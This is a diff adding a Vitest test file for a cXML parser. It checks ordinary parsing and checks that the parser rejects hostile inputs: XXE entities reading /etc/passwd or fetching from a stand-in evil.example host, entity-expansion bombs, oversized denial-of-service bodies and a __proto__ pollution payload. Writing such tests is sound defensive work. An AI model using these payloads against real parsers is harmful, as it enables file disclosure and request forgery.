@@ -1,0 +1,55 @@
+import { describe, expect, test } from 'vitest';
+import { CxmlFault } from './CxmlFault.ts';
+import { parseXml } from './parseXml.ts';
+
+test('elements, attributes, and the entities that XML itself has', () => {
+  const xml = `<?xml version="1.0" encoding="UTF-8"?>
+<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">
+<cXML payloadID="a &amp; b"><Name>R&amp;D &lt;1&gt; caf&#233; 🦋</Name><Name><![CDATA[<b>]]></Name></cXML>`;
+  expect(parseXml(xml)).toMatchObject({
+    cXML: { '@payloadID': 'a & b', Name: [{ '#text': 'R&D <1> café 🦋' }, { '#text': '<b>' }] },
+  });
+});
+
+describe('what reaches beyond the document is refused', () => {
+  test.each([
+    ['an external entity', '<!DOCTYPE cXML [<!ENTITY x SYSTEM "file:///etc/passwd">]><cXML>&x;</cXML>'],
+    ['an entity after a DTD', '<!DOCTYPE cXML SYSTEM "a" [<!ENTITY x "y">]><cXML>&x;</cXML>'],
+    ['a parameter entity', '<!DOCTYPE cXML [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]><cXML/>'],
+    ['entities that multiply', '<!DOCTYPE cXML [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><cXML>&b;</cXML>'],
+    ['two DOCTYPEs', '<!DOCTYPE cXML SYSTEM "a"><!DOCTYPE cXML [<!ENTITY x "y">]><cXML/>'],
+    ['a DOCTYPE in small letters', '<!doctype cXML [<!ENTITY x "y">]><cXML/>'],
+    ['an empty internal subset', '<!DOCTYPE cXML []><cXML/>'],
+    ['a bracket inside its name', `<!DOCTYPE cXML SYSTEM "a]>" [<!ENTITY x "y">]><cXML>&x;</cXML>`],
+    ['no XML', 'username=x'],
+    ['nothing', ''],
+    ['a tag left open', '<cXML><Header></cXML>'],
+    ['too deep', `${'<a>'.repeat(200)}${'</a>'.repeat(200)}`],
+  ])('%s', (_name, xml) => {
+    expect(() => parseXml(xml)).toThrow(CxmlFault);
+  });
+});
+
+test('a DOCTYPE with a public name is one that names a DTD alone', () => {
+  expect(parseXml('<!DOCTYPE cXML PUBLIC "-//x" "cXML.dtd"><cXML/>')).toHaveProperty('cXML');
+});
+
+test.each([
+  ['a DOCTYPE without an end', `<!DOCTYPE${' a'.repeat(120_000)}`],
+  ['many beginnings of one', '<!DOCTYPE '.repeat(25_000)],
+  ['tags without an end', '<a '.repeat(80_000)],
+  ['many entities', `<cXML>${'&amp;'.repeat(48_000)}&x;</cXML`],
+])('%s, as large as a body may be, is refused at once', (_name, xml) => {
+  const started = performance.now();
+  expect(() => parseXml(xml)).toThrow(CxmlFault);
+  expect(performance.now() - started).toBeLessThan(2000);
+});
+
+test('a name that reaches for the prototype reaches nothing', () => {
+  try {
+    parseXml('<cXML><__proto__><polluted>1</polluted></__proto__><constructor>x</constructor></cXML>');
+  } catch (error) {
+    expect(error).toBeInstanceOf(CxmlFault);
+  }
+  expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
+});
